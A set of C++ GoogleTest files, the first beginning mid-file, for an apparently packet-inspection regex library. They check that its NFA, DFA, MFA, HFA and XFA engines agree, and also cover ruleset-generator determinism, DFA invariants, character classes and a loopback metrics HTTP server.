       {"atk1 atk2", "atk2 atk1", "hdr3 val4", "hdr3\nval4", "lone5", "xyz"}) {
    hfa::HfaScanner s(*h);
    EXPECT_EQ(sorted(s.scan(input)), sorted(reference_matches(kPats, input))) << input;
  }
}

TEST(Hfa, WideTableImageLargerThanMfa) {
  // The HASIC cost model: 8-byte full-alphabet entries vs MFA's compressed
  // 4-byte table — the Fig. 2 image-size gap.
  const auto inputs = compile_patterns(kPats);
  auto h = hfa::build_hfa(inputs);
  auto m = core::build_mfa(inputs);
  ASSERT_TRUE(h && m);
  EXPECT_GT(h->memory_image_bytes(), 4 * m->memory_image_bytes());
}

TEST(Hfa, ContextMatchesMfaContext) {
  const auto inputs = compile_patterns(kPats);
  auto h = hfa::build_hfa(inputs);
  auto m = core::build_mfa(inputs);
  ASSERT_TRUE(h && m);
  EXPECT_EQ(h->context_bytes(), m->context_bytes());
}

TEST(Xfa, MatchEquivalentToReference) {
  auto x = xfa::build_xfa(compile_patterns(kPats));
  ASSERT_TRUE(x.has_value());
  for (const std::string input :
       {"atk1 atk2", "atk2 atk1", "hdr3 val4", "hdr3\nval4", "lone5 lone5", ""}) {
    xfa::XfaScanner s(*x);
    EXPECT_EQ(sorted(s.scan(input)), sorted(reference_matches(kPats, input))) << input;
  }
}

TEST(Xfa, ProgramsOnlyOnAcceptingStates) {
  auto x = xfa::build_xfa(compile_patterns(kPats));
  ASSERT_TRUE(x.has_value());
  const auto& d = x->character_dfa();
  std::size_t with_programs = 0;
  for (std::uint32_t s = 0; s < d.state_count(); ++s) {
    const auto [first, last] = x->program(s);
    if (first != last) {
      ++with_programs;
      EXPECT_LT(s, d.accepting_state_count());
    }
  }
  EXPECT_EQ(with_programs, d.accepting_state_count());
}

TEST(Xfa, InstructionLoweringCoversActionShapes) {
  // One pattern per action shape: plain report, set, test+report,
  // test+set, clear.
  const std::vector<std::string> pats = {".*aa11.*bb22.*cc33", ".*dd44[^\\n]*ee55",
                                         ".*solo99"};
  auto x = xfa::build_xfa(compile_patterns(pats));
  ASSERT_TRUE(x.has_value());
  std::set<xfa::Op> seen;
  const auto& d = x->character_dfa();
  for (std::uint32_t s = 0; s < d.accepting_state_count(); ++s) {
    const auto [first, last] = x->program(s);
    for (const auto* in = first; in != last; ++in) seen.insert(in->op);
  }
  EXPECT_TRUE(seen.count(xfa::Op::kBitSet));
  EXPECT_TRUE(seen.count(xfa::Op::kSetIfBit));
  EXPECT_TRUE(seen.count(xfa::Op::kReportIfBit));
  EXPECT_TRUE(seen.count(xfa::Op::kReport));
  EXPECT_TRUE(seen.count(xfa::Op::kBitClear));
}

TEST(Xfa, MemoryGeometryMatchesSplit) {
  const auto inputs = compile_patterns(kPats);
  auto x = xfa::build_xfa(inputs);
  auto m = core::build_mfa(inputs);
  ASSERT_TRUE(x && m);
  EXPECT_EQ(x->memory_bits(), m->program().memory_bits);
  EXPECT_EQ(x->counters(), m->program().counters);
}

TEST(HfaXfa, FailWhenPieceDfaCapExceeded) {
  // Give the piece DFA an absurdly small cap: both builders must fail
  // cleanly rather than explode.
  const auto inputs = compile_patterns(kPats);
  hfa::BuildOptions h;
  h.dfa.max_states = 2;
  EXPECT_FALSE(hfa::build_hfa(inputs, h).has_value());
  xfa::BuildOptions x;
  x.dfa.max_states = 2;
  EXPECT_FALSE(xfa::build_xfa(inputs, x).has_value());
}

}  // namespace
}  // namespace mfa
