// The bundled ruleset fixture generator: determinism, the prefix-nesting
// property bench rungs rely on, and end-to-end compilability of the
// generated dialect (parse -> split -> validated filter program).
#include "rules/ruleset_gen.h"

#include <gtest/gtest.h>

#include "nfa/nfa.h"
#include "rules/rules.h"
#include "split/splitter.h"

namespace mfa::rules {
namespace {

TEST(RulesetGen, DeterministicForSameSeed) {
  const std::string a = generate_ruleset({500, 42});
  const std::string b = generate_ruleset({500, 42});
  EXPECT_EQ(a, b);
  const std::string c = generate_ruleset({500, 43});
  EXPECT_NE(a, c);
}

TEST(RulesetGen, SmallerFixtureIsAPrefixOfLarger) {
  // Rung N's fixture must be byte-for-byte the first N rules of rung M > N,
  // so bench ladders measure growth, not a reshuffled rule population.
  const std::string small = generate_ruleset({200, 42});
  const std::string large = generate_ruleset({1000, 42});
  ASSERT_LE(small.size(), large.size());
  EXPECT_EQ(large.compare(0, small.size(), small), 0);
}

TEST(RulesetGen, ParsesCleanlyWithSequentialSids) {
  const LoadResult loaded = parse_rules(generate_ruleset({500, 42}));
  EXPECT_TRUE(loaded.ok());
  for (const auto& err : loaded.errors)
    ADD_FAILURE() << "line " << err.line << ": " << err.message;
  ASSERT_EQ(loaded.rules.size(), 500u);
  for (std::size_t i = 0; i < loaded.rules.size(); ++i)
    EXPECT_EQ(loaded.rules[i].sid, 100000 + i);
}

TEST(RulesetGen, CoversEveryRuleShape) {
  const LoadResult loaded = parse_rules(generate_ruleset({500, 42}));
  std::size_t nocase = 0, hex = 0, pcre = 0, multi = 0;
  for (const auto& rule : loaded.rules) {
    if (rule.pattern.find('[') != std::string::npos) ++nocase;
    if (rule.pattern.find("\\x") != std::string::npos) ++hex;
    if (rule.pattern.find('{') != std::string::npos ||
        rule.pattern.find(".*(") != std::string::npos)
      ++pcre;
    if (rule.pattern.find(".*", 2) != std::string::npos) ++multi;
  }
  EXPECT_GT(nocase, 0u);
  EXPECT_GT(hex, 0u);
  EXPECT_GT(pcre, 0u);
  EXPECT_GT(multi, 0u);
}

TEST(RulesetGen, GeneratedPatternsCompileToValidatedProgram) {
  const LoadResult loaded = parse_rules(generate_ruleset({300, 42}));
  ASSERT_TRUE(loaded.ok());
  const auto inputs = to_pattern_inputs(loaded.rules);
  ASSERT_EQ(inputs.size(), 300u);
  const auto sr = split::split_patterns(inputs);
  EXPECT_TRUE(sr.program.validate());
  EXPECT_GT(sr.stats.patterns_decomposed, 0u);
  // Every piece must have survived regex compilation into the NFA builder's
  // input form (split_patterns parses each; a piece that failed to parse
  // would have been dropped and desynced engine ids).
  const nfa::Nfa n = nfa::build_nfa([&] {
    std::vector<nfa::PatternInput> pi;
    for (const auto& piece : sr.pieces) pi.push_back({piece.regex, piece.engine_id});
    return pi;
  }());
  EXPECT_GT(n.state_count(), 0u);
}

}  // namespace
}  // namespace mfa::rules
