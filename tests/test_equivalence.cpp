// The master cross-engine property suite: NFA = DFA = MFA = HFA = XFA on
// the same inputs (DESIGN.md Sec. 3). Inputs mix random noise, sampled
// pattern matches, and adversarial boundary cases; pattern sets are both
// hand-picked and randomly generated.
#include <gtest/gtest.h>

#include "engine_test_util.h"
#include "regex/sample.h"
#include "util/rng.h"

namespace mfa {
namespace {

using mfa::testing::compile_patterns;
using mfa::testing::sorted;

struct AllEngines {
  nfa::Nfa nfa;
  dfa::Dfa dfa;
  core::Mfa mfa;
  hfa::Hfa hfa;
  xfa::Xfa xfa;
};

AllEngines build_all(const std::vector<std::string>& sources) {
  const auto inputs = compile_patterns(sources);
  AllEngines e{nfa::build_nfa(inputs), {}, {}, {}, {}};
  auto d = dfa::build_dfa(e.nfa);
  auto m = core::build_mfa(inputs);
  auto h = hfa::build_hfa(inputs);
  auto x = xfa::build_xfa(inputs);
  EXPECT_TRUE(d && m && h && x);
  e.dfa = *std::move(d);
  e.mfa = *std::move(m);
  e.hfa = *std::move(h);
  e.xfa = *std::move(x);
  return e;
}

void expect_all_equal(const AllEngines& e, const std::string& input) {
  nfa::NfaScanner ns(e.nfa);
  dfa::DfaScanner ds(e.dfa);
  core::MfaScanner ms(e.mfa);
  hfa::HfaScanner hs(e.hfa);
  xfa::XfaScanner xs(e.xfa);
  const MatchVec want = sorted(ns.scan(input));
  EXPECT_EQ(sorted(ds.scan(input)), want) << "DFA vs NFA on: " << input;
  EXPECT_EQ(sorted(ms.scan(input)), want) << "MFA vs NFA on: " << input;
  EXPECT_EQ(sorted(hs.scan(input)), want) << "HFA vs NFA on: " << input;
  EXPECT_EQ(sorted(xs.scan(input)), want) << "XFA vs NFA on: " << input;
}

TEST(Equivalence, HandPickedPatternsAndInputs) {
  const std::vector<std::string> pats = {
      ".*alpha.*beta",       ".*gam1[^\\n]*del2", ".*solo",
      "^start.*finish",      ".*one.*two.*three", ".*ab+c[0-9]{1,2}d",
  };
  const AllEngines e = build_all(pats);
  for (const std::string input : std::vector<std::string>{
           "alpha beta",
           "beta alpha beta",
           "gam1 del2",
           "gam1\ndel2",
           "gam1 del2 gam1\ndel2 del2",
           "solo solo solo",
           "start ... finish",
           "not start ... finish",
           "one two three",
           "three two one",
           "one one two two three three",
           "abc1d abbbc99d",
           "",
           "\n\n\n",
           std::string(3, '\0') + "alpha" + std::string(2, '\xff') + "beta",
       }) {
    expect_all_equal(e, input);
  }
}

TEST(Equivalence, AdversarialBoundaryInputs) {
  // Inputs crafted to stress same-position action ordering and overlap
  // handling: segments ending at identical offsets, X at segment edges.
  const std::vector<std::string> pats = {".*aabb.*ccdd", ".*eeff[^\\n]*gghh"};
  const AllEngines e = build_all(pats);
  for (const std::string input : {
           "aabbccdd",        // B right after A
           "ccddaabb",        // B before A
           "aabbaabbccddccdd",
           "eeffgghh",
           "eeff\ngghh",
           "eeffgg\nhh",
           "eeff gghh eeff\ngghh gghh",
           "aabbccddaabbccdd",
       }) {
    expect_all_equal(e, input);
  }
}

class RandomPatternEquivalence : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(RandomPatternEquivalence, RandomSetsRandomInputs) {
  util::Rng rng(GetParam());
  // Generate a random pattern set in the paper's idiom.
  std::vector<std::string> pats;
  const int npat = 2 + static_cast<int>(rng.below(4));
  for (int i = 0; i < npat; ++i) {
    std::string p = ".*" + rng.lower_string(2 + rng.below(4));
    const int extra = static_cast<int>(rng.below(3));
    for (int j = 0; j < extra; ++j) {
      p += rng.chance(0.5) ? ".*" : "[^\\n]*";
      p += rng.lower_string(2 + rng.below(4));
    }
    pats.push_back(std::move(p));
  }
  const AllEngines e = build_all(pats);
  const auto compiled = compile_patterns(pats);
  for (int round = 0; round < 40; ++round) {
    std::string input;
    const int chunks = 1 + static_cast<int>(rng.below(5));
    for (int c = 0; c < chunks; ++c) {
      if (rng.chance(0.5)) {
        input += regex::sample_match(compiled[rng.below(compiled.size())].regex, rng);
      } else {
        const int len = static_cast<int>(rng.below(10));
        for (int i = 0; i < len; ++i)
          input += rng.chance(0.15) ? '\n' : static_cast<char>(rng.lower());
      }
    }
    expect_all_equal(e, input);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, RandomPatternEquivalence,
                         ::testing::Values(1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12));

TEST(Equivalence, ChunkedFeedEqualsWholeScanAcrossEngines) {
  const std::vector<std::string> pats = {".*red5.*blue7", ".*gree[^\\n]*yell"};
  const AllEngines e = build_all(pats);
  util::Rng rng(77);
  const auto compiled = compile_patterns(pats);
  std::string input;
  for (int i = 0; i < 8; ++i) {
    input += regex::sample_match(compiled[rng.below(compiled.size())].regex, rng);
    input += rng.lower_string(rng.below(8));
  }
  core::MfaScanner whole(e.mfa);
  const MatchVec want = sorted(whole.scan(input));

  core::MfaScanner chunked(e.mfa);
  CollectingSink sink;
  const auto* data = reinterpret_cast<const std::uint8_t*>(input.data());
  std::size_t pos = 0;
  while (pos < input.size()) {
    const std::size_t len = std::min<std::size_t>(1 + rng.below(7), input.size() - pos);
    chunked.feed(data + pos, len, pos, sink);
    pos += len;
  }
  EXPECT_EQ(sorted(sink.matches), want);
}

}  // namespace
}  // namespace mfa
