// Live observability endpoint (obs/http_server.h): routing, status codes,
// bounded requests, and the ShardedInspector wiring — all four endpoints
// served from a running pipeline, shut down with finish().
#include "obs/http_server.h"

#include <gtest/gtest.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstring>
#include <string>

#include "engine_test_util.h"
#include "obs/export.h"
#include "obs/metrics.h"
#include "obs/profile.h"
#include "pipeline/pipeline.h"
#include "trace/trace.h"

namespace mfa::obs {
namespace {

using mfa::testing::compile_patterns;

/// Minimal loopback HTTP/1.0 client: send `request` verbatim, return the
/// whole response (status line + headers + body). Empty string on error.
std::string http_request(std::uint16_t port, const std::string& request) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return "";
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
    ::close(fd);
    return "";
  }
  std::size_t sent = 0;
  while (sent < request.size()) {
    const ssize_t n = ::send(fd, request.data() + sent, request.size() - sent, 0);
    if (n <= 0) break;
    sent += static_cast<std::size_t>(n);
  }
  std::string response;
  char buf[4096];
  ssize_t n;
  while ((n = ::recv(fd, buf, sizeof buf, 0)) > 0)
    response.append(buf, static_cast<std::size_t>(n));
  ::close(fd);
  return response;
}

std::string get(std::uint16_t port, const std::string& path) {
  return http_request(port, "GET " + path + " HTTP/1.0\r\n\r\n");
}

std::string body_of(const std::string& response) {
  const std::size_t pos = response.find("\r\n\r\n");
  return pos == std::string::npos ? "" : response.substr(pos + 4);
}

HttpServer::Handlers test_handlers(bool healthy = true) {
  HttpServer::Handlers h;
  h.metrics = [] { return std::string("# metrics body\n"); };
  h.telemetry = [] { return std::string("{\"telemetry\":true}"); };
  h.profile = [] { return std::string("{\"profile\":true}"); };
  h.health = [healthy] {
    HttpServer::Health v;
    v.ok = healthy;
    v.body = healthy ? "{\"ok\":true}" : "{\"ok\":false}";
    return v;
  };
  return h;
}

TEST(HttpServer, ServesAllFourEndpoints) {
  HttpServer server;
  ASSERT_TRUE(server.start(0, test_handlers()));  // kernel-assigned port
  ASSERT_TRUE(server.running());
  ASSERT_NE(server.port(), 0);

  std::string r = get(server.port(), "/metrics");
  EXPECT_NE(r.find("200 OK"), std::string::npos);
  EXPECT_NE(r.find("text/plain; version=0.0.4"), std::string::npos);
  EXPECT_EQ(body_of(r), "# metrics body\n");

  r = get(server.port(), "/telemetry.json");
  EXPECT_NE(r.find("200 OK"), std::string::npos);
  EXPECT_NE(r.find("application/json"), std::string::npos);
  EXPECT_EQ(body_of(r), "{\"telemetry\":true}");

  r = get(server.port(), "/profile.json");
  EXPECT_EQ(body_of(r), "{\"profile\":true}");

  r = get(server.port(), "/healthz");
  EXPECT_NE(r.find("200 OK"), std::string::npos);
  EXPECT_EQ(body_of(r), "{\"ok\":true}");

  EXPECT_EQ(server.requests(), 4u);
  server.stop();
  EXPECT_FALSE(server.running());
}

TEST(HttpServer, UnhealthyVerdictIs503) {
  HttpServer server;
  ASSERT_TRUE(server.start(0, test_handlers(/*healthy=*/false)));
  const std::string r = get(server.port(), "/healthz");
  EXPECT_NE(r.find("503"), std::string::npos);
  EXPECT_EQ(body_of(r), "{\"ok\":false}");
}

TEST(HttpServer, UnknownPathIs404MethodIs405BadRequestIs400) {
  HttpServer server;
  ASSERT_TRUE(server.start(0, test_handlers()));
  EXPECT_NE(get(server.port(), "/nope").find("404"), std::string::npos);
  EXPECT_NE(http_request(server.port(), "POST /metrics HTTP/1.0\r\n\r\n")
                .find("405"),
            std::string::npos);
  EXPECT_NE(http_request(server.port(), "garbage\r\n\r\n").find("400"),
            std::string::npos);
}

TEST(HttpServer, QueryStringsAreStripped) {
  HttpServer server;
  ASSERT_TRUE(server.start(0, test_handlers()));
  const std::string r = get(server.port(), "/healthz?verbose=1");
  EXPECT_NE(r.find("200 OK"), std::string::npos);
}

TEST(HttpServer, NullProfileHandlerIs404) {
  HttpServer::Handlers h = test_handlers();
  h.profile = nullptr;  // pipeline without a profiler attached
  HttpServer server;
  ASSERT_TRUE(server.start(0, std::move(h)));
  EXPECT_NE(get(server.port(), "/profile.json").find("404"), std::string::npos);
  EXPECT_NE(get(server.port(), "/metrics").find("200"), std::string::npos);
}

TEST(HttpServer, OversizedRequestIsRejected) {
  HttpServer server;
  ASSERT_TRUE(server.start(0, test_handlers()));
  // 8 KB of headers blows the 4 KB request bound; server must answer (or
  // drop) without reading forever.
  std::string request = "GET /metrics HTTP/1.0\r\n";
  while (request.size() < 8192) request += "X-Pad: aaaaaaaaaaaaaaaa\r\n";
  request += "\r\n";
  const std::string r = http_request(server.port(), request);
  EXPECT_EQ(r.find("200 OK"), std::string::npos);
}

TEST(HttpServer, LargeBodyArrivesComplete) {
  // Regression: write_all() used to issue one send() and ignore short
  // writes, so any body larger than the socket send buffer arrived
  // truncated. A multi-megabyte /metrics payload must round-trip intact.
  std::string big;
  big.reserve(2 * 1024 * 1024);
  for (std::uint32_t i = 0; big.size() < 2 * 1024 * 1024; ++i)
    big += "mfa_test_counter{line=\"" + std::to_string(i) + "\"} 1\n";
  HttpServer::Handlers h = test_handlers();
  h.metrics = [big] { return big; };
  HttpServer server;
  ASSERT_TRUE(server.start(0, std::move(h)));
  const std::string r = get(server.port(), "/metrics");
  ASSERT_NE(r.find("200 OK"), std::string::npos);
  const std::string body = body_of(r);
  ASSERT_EQ(body.size(), big.size());
  EXPECT_TRUE(body == big);  // EXPECT_EQ would print 2 MB on failure
  // Content-Length matches what was actually delivered.
  EXPECT_NE(r.find("Content-Length: " + std::to_string(big.size())),
            std::string::npos);
}

TEST(HttpServer, StopIsIdempotentAndRestartable) {
  HttpServer server;
  ASSERT_TRUE(server.start(0, test_handlers()));
  const std::uint16_t old_port = server.port();
  server.stop();
  server.stop();  // second stop is a no-op
  EXPECT_EQ(http_request(old_port, "GET /healthz HTTP/1.0\r\n\r\n"), "");
  ASSERT_TRUE(server.start(0, test_handlers()));
  EXPECT_NE(get(server.port(), "/healthz").find("200"), std::string::npos);
}

// --- wired into the sharded pipeline ---

TEST(PipelineHttp, ServesLiveDataBetweenStartAndFinish) {
  auto m = core::build_mfa(compile_patterns({".*worm77", ".*atk1.*vec2"}));
  ASSERT_TRUE(m.has_value());
  const trace::Trace t = trace::make_real_life(
      trace::RealLifeProfile::kCyberDefense, 100000, 11, {"worm77"});
  MetricsRegistry reg({.shards = 2});
  Profiler prof({.rule_capacity = 8,
                 .state_capacity = m->state_count(),
                 .sample_shift = 0});
  pipeline::Options opt;
  opt.shards = 2;
  opt.metrics = &reg;
  opt.profiler = &prof;
  opt.trace_sample_shift = 0;
  opt.http_port = 0;  // kernel-assigned
  pipeline::ShardedInspector<core::Mfa> pipe(*m, opt);
  pipe.start();
  ASSERT_TRUE(pipe.http_running());
  const std::uint16_t port = pipe.http_port();
  ASSERT_NE(port, 0);

  t.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });

  const std::string health = get(port, "/healthz");
  EXPECT_NE(health.find("200 OK"), std::string::npos);
  EXPECT_NE(body_of(health).find("\"ok\":true"), std::string::npos);
  EXPECT_NE(body_of(health).find("shed_ratio"), std::string::npos);

  const std::string metrics = body_of(get(port, "/metrics"));
  EXPECT_NE(metrics.find("mfa_packets_total"), std::string::npos);
  EXPECT_NE(metrics.find("mfa_spans_sampled_total"), std::string::npos);

  const std::string telemetry = body_of(get(port, "/telemetry.json"));
  EXPECT_EQ(telemetry.find("{\"schema\":\"mfa.telemetry.v1\""), 0u);

  const std::string profile = body_of(get(port, "/profile.json"));
  EXPECT_EQ(profile.find("{\"schema\":\"mfa.profile.v1\""), 0u);

  pipe.finish();
  EXPECT_FALSE(pipe.http_running());
  // The socket is gone with the pipeline.
  EXPECT_EQ(get(port, "/healthz"), "");
}

TEST(PipelineHttp, DisabledByDefault) {
  auto m = core::build_mfa(compile_patterns({".*x"}));
  ASSERT_TRUE(m.has_value());
  MetricsRegistry reg(1);
  pipeline::Options opt;
  opt.shards = 1;
  opt.metrics = &reg;  // http_port stays -1
  pipeline::ShardedInspector<core::Mfa> pipe(*m, opt);
  pipe.start();
  EXPECT_FALSE(pipe.http_running());
  pipe.finish();
}

}  // namespace
}  // namespace mfa::obs
