// Structural invariants checked over randomized and builtin inputs:
// byte-class consistency, DFA geometry, minimization idempotence, trace
// packetization, separator algebra.
#include <gtest/gtest.h>

#include "engine_test_util.h"
#include "patterns/builtin.h"
#include "regex/sample.h"
#include "trace/trace.h"
#include "util/rng.h"

namespace mfa {
namespace {

using mfa::testing::compile_patterns;
using mfa::testing::sorted;

class DfaInvariants : public ::testing::TestWithParam<const char*> {};

TEST_P(DfaInvariants, ByteClassesAreTransitionConsistent) {
  // Two bytes in the same class must behave identically from every state.
  const auto set = patterns::set_by_name(GetParam());
  const nfa::Nfa n = nfa::build_nfa(set.patterns);
  const auto [cls, count] = dfa::compute_byte_classes(n);
  // Verify against the NFA labels directly: a label must never separate
  // two bytes of one class.
  for (const auto& label : n.distinct_labels()) {
    std::array<int, 256> class_value{};
    std::fill(class_value.begin(), class_value.end(), -1);
    for (unsigned b = 0; b < 256; ++b) {
      const int in_label = label.test(static_cast<unsigned char>(b)) ? 1 : 0;
      if (class_value[cls[b]] == -1) class_value[cls[b]] = in_label;
      EXPECT_EQ(class_value[cls[b]], in_label) << "byte " << b;
    }
  }
}

TEST_P(DfaInvariants, AcceptGeometry) {
  const auto set = patterns::set_by_name(GetParam());
  const nfa::Nfa n = nfa::build_nfa(set.patterns);
  const auto d = dfa::build_dfa(n);
  ASSERT_TRUE(d.has_value());
  // Every accepting state has >= 1 id; ids are sorted unique and <= max id;
  // every transition target is in range.
  for (std::uint32_t s = 0; s < d->accepting_state_count(); ++s) {
    const auto [first, last] = d->accepts(s);
    ASSERT_LT(first, last);
    for (const auto* it = first; it != last; ++it) {
      EXPECT_LE(*it, d->max_match_id());
      if (it + 1 != last) EXPECT_LT(*it, *(it + 1));
    }
  }
  for (std::uint32_t s = 0; s < d->state_count(); ++s)
    for (unsigned b = 0; b < 256; ++b)
      EXPECT_LT(d->next(s, static_cast<unsigned char>(b)), d->state_count());
}

INSTANTIATE_TEST_SUITE_P(Sets, DfaInvariants, ::testing::Values("C8", "C10", "S24"));

TEST(Minimization, Idempotent) {
  const auto set = patterns::set_by_name("C8");
  const nfa::Nfa n = nfa::build_nfa(set.patterns);
  dfa::BuildOptions opts;
  opts.minimize = true;
  dfa::BuildStats s1;
  const auto d1 = dfa::build_dfa(n, opts, &s1);
  ASSERT_TRUE(d1.has_value());
  // Minimized size must be minimal: all pairs of distinct states must be
  // distinguishable. Spot check: no two states have identical rows AND
  // identical accept sets.
  std::set<std::vector<std::uint32_t>> signatures;
  for (std::uint32_t s = 0; s < d1->state_count(); ++s) {
    std::vector<std::uint32_t> sig;
    for (std::uint16_t c = 0; c < d1->column_count(); ++c) {
      // reconstruct via next() on a representative byte of column c
      for (unsigned b = 0; b < 256; ++b) {
        if (d1->byte_columns()[b] == c) {
          sig.push_back(d1->next(s, static_cast<unsigned char>(b)));
          break;
        }
      }
    }
    if (s < d1->accepting_state_count()) {
      const auto [first, last] = d1->accepts(s);
      sig.insert(sig.end(), first, last);
      sig.push_back(UINT32_MAX);  // mark accepting
    }
    EXPECT_TRUE(signatures.insert(sig).second) << "duplicate state " << s;
  }
}

TEST(Minimization, NeverLargerAndBoundedByUnminimized) {
  for (const char* name : {"C8", "S24"}) {
    const auto set = patterns::set_by_name(name);
    const nfa::Nfa n = nfa::build_nfa(set.patterns);
    const auto plain = dfa::build_dfa(n);
    dfa::BuildOptions opts;
    opts.minimize = true;
    const auto min = dfa::build_dfa(n, opts);
    ASSERT_TRUE(plain && min);
    EXPECT_LE(min->state_count(), plain->state_count()) << name;
    EXPECT_GT(min->state_count(), 0u);
  }
}

TEST(TracePackets, MtuRespectedBySynthetic) {
  const auto set = patterns::set_by_name("C8");
  const auto d = dfa::build_dfa(nfa::build_nfa(set.patterns));
  ASSERT_TRUE(d.has_value());
  const trace::Trace t = trace::make_synthetic(*d, 0.5, 50000, 1, /*mtu=*/512);
  t.for_each_packet([&](const flow::Packet& p) { EXPECT_LE(p.length, 512u); });
}

TEST(TracePackets, RealLifePacketSizesBounded) {
  const trace::Trace t = trace::make_real_life(trace::RealLifeProfile::kDarpa, 60000, 2, {});
  t.for_each_packet([&](const flow::Packet& p) {
    EXPECT_GT(p.length, 0u);
    EXPECT_LE(p.length, 1460u);
  });
}

TEST(MatchContract, EveryEngineReportsAtMostOncePerIdAndPosition) {
  const std::vector<std::string> pats = {"(a|aa)+b", ".*aa.*ab"};
  const auto inputs = compile_patterns(pats);
  const nfa::Nfa n = nfa::build_nfa(inputs);
  const auto d = dfa::build_dfa(n);
  auto m = core::build_mfa(inputs);
  ASSERT_TRUE(d && m);
  util::Rng rng(5);
  for (int i = 0; i < 50; ++i) {
    std::string input;
    for (int j = 0; j < 30; ++j) input += "ab"[rng.below(2)];
    for (const MatchVec got :
         {nfa::NfaScanner(n).scan(input), dfa::DfaScanner(*d).scan(input),
          core::MfaScanner(*m).scan(input)}) {
      MatchVec s = sorted(got);
      EXPECT_TRUE(std::adjacent_find(s.begin(), s.end()) == s.end())
          << "duplicate match on " << input;
    }
  }
}

TEST(ContextSizes, OrderingAcrossEngines) {
  // The paper's flow-multiplexing argument: DFA context tiny, MFA adds only
  // w bits, NFA pays a whole active-state set.
  const auto set = patterns::set_by_name("S24");
  const nfa::Nfa n = nfa::build_nfa(set.patterns);
  auto m = core::build_mfa(set.patterns);
  ASSERT_TRUE(m.has_value());
  const std::size_t dfa_ctx = dfa::DfaScanner::context_bytes();
  const std::size_t mfa_ctx = m->context_bytes();
  const std::size_t nfa_ctx = nfa::NfaScanner(n).context_bytes();
  EXPECT_LT(dfa_ctx, mfa_ctx);
  EXPECT_LT(mfa_ctx, nfa_ctx);
  EXPECT_LE(mfa_ctx, 64u);  // a handful of words, suitable for 1M flows
}

TEST(SeparatorAlgebra, NormalizationPreservesSemantics) {
  // Patterns whose separator runs collapse must still match exactly like
  // their verbose forms.
  const std::vector<std::pair<std::string, std::string>> kEquivalentPairs = {
      {".*ab.*.*cd", ".*ab.*cd"},
      {".*ab.*[^\\n]*cd", ".*ab.*cd"},
      {".*ab[^\\n]*[^\\n]*cd", ".*ab[^\\n]*cd"},
      {".*ab.+.{2,}cd", ".*ab.{3,}cd"},
  };
  util::Rng rng(9);
  for (const auto& [verbose, simple] : kEquivalentPairs) {
    auto mv = core::build_mfa(compile_patterns({verbose}));
    auto ms = core::build_mfa(compile_patterns({simple}));
    ASSERT_TRUE(mv && ms);
    for (int i = 0; i < 40; ++i) {
      std::string input;
      for (int j = 0; j < 24; ++j) {
        const char* alphabet = "abcd.\n";
        input += alphabet[rng.below(6)];
      }
      input += rng.chance(0.5) ? "ab" : "cd";
      core::MfaScanner sv(*mv);
      core::MfaScanner ss(*ms);
      EXPECT_EQ(sorted(sv.scan(input)), sorted(ss.scan(input)))
          << verbose << " vs " << simple << " on " << input;
    }
  }
}

}  // namespace
}  // namespace mfa
