#include "regex/charclass.h"

#include <gtest/gtest.h>

namespace mfa::regex {
namespace {

TEST(CharClass, EmptyByDefault) {
  CharClass cc;
  EXPECT_TRUE(cc.empty());
  EXPECT_EQ(cc.count(), 0u);
  EXPECT_FALSE(cc.test('a'));
}

TEST(CharClass, SingleMembership) {
  const CharClass cc = CharClass::single('x');
  EXPECT_TRUE(cc.test('x'));
  EXPECT_FALSE(cc.test('y'));
  EXPECT_EQ(cc.count(), 1u);
  EXPECT_EQ(cc.first(), 'x');
}

TEST(CharClass, AllCoversEveryByte) {
  const CharClass cc = CharClass::all();
  EXPECT_TRUE(cc.is_all());
  EXPECT_EQ(cc.count(), 256u);
  for (unsigned b = 0; b < 256; ++b) EXPECT_TRUE(cc.test(static_cast<unsigned char>(b)));
}

TEST(CharClass, RangeIsInclusive) {
  const CharClass cc = CharClass::range('a', 'c');
  EXPECT_EQ(cc.count(), 3u);
  EXPECT_TRUE(cc.test('a'));
  EXPECT_TRUE(cc.test('b'));
  EXPECT_TRUE(cc.test('c'));
  EXPECT_FALSE(cc.test('d'));
}

TEST(CharClass, DotExcludesNewlineUnlessDotall) {
  EXPECT_FALSE(CharClass::dot(false).test('\n'));
  EXPECT_EQ(CharClass::dot(false).count(), 255u);
  EXPECT_TRUE(CharClass::dot(true).test('\n'));
  EXPECT_TRUE(CharClass::dot(true).is_all());
}

TEST(CharClass, NegationIsExactComplement) {
  const CharClass cc = CharClass::range('0', '9');
  const CharClass neg = cc.negated();
  EXPECT_EQ(neg.count(), 256u - 10u);
  for (unsigned b = 0; b < 256; ++b) {
    const auto c = static_cast<unsigned char>(b);
    EXPECT_NE(cc.test(c), neg.test(c)) << b;
  }
  EXPECT_EQ(neg.negated(), cc);
}

TEST(CharClass, UnionIntersection) {
  const CharClass digits = CharClass::digits();
  const CharClass lower = CharClass::range('a', 'z');
  const CharClass both = digits | lower;
  EXPECT_EQ(both.count(), 36u);
  EXPECT_TRUE((digits & lower).empty());
  EXPECT_FALSE(digits.intersects(lower));
  EXPECT_TRUE(both.intersects(digits));
}

TEST(CharClass, CaseFoldingClosesBothDirections) {
  CharClass cc = CharClass::single('a');
  cc.add('Z');
  const CharClass folded = cc.case_folded();
  EXPECT_TRUE(folded.test('a'));
  EXPECT_TRUE(folded.test('A'));
  EXPECT_TRUE(folded.test('z'));
  EXPECT_TRUE(folded.test('Z'));
  EXPECT_EQ(folded.count(), 4u);
}

TEST(CharClass, WordCharsContents) {
  const CharClass w = CharClass::word_chars();
  EXPECT_TRUE(w.test('_'));
  EXPECT_TRUE(w.test('A'));
  EXPECT_TRUE(w.test('z'));
  EXPECT_TRUE(w.test('5'));
  EXPECT_FALSE(w.test('-'));
  EXPECT_EQ(w.count(), 26u + 26u + 10u + 1u);
}

TEST(CharClass, WhitespaceContents) {
  const CharClass s = CharClass::whitespace();
  EXPECT_TRUE(s.test(' '));
  EXPECT_TRUE(s.test('\t'));
  EXPECT_TRUE(s.test('\n'));
  EXPECT_TRUE(s.test('\r'));
  EXPECT_FALSE(s.test('x'));
}

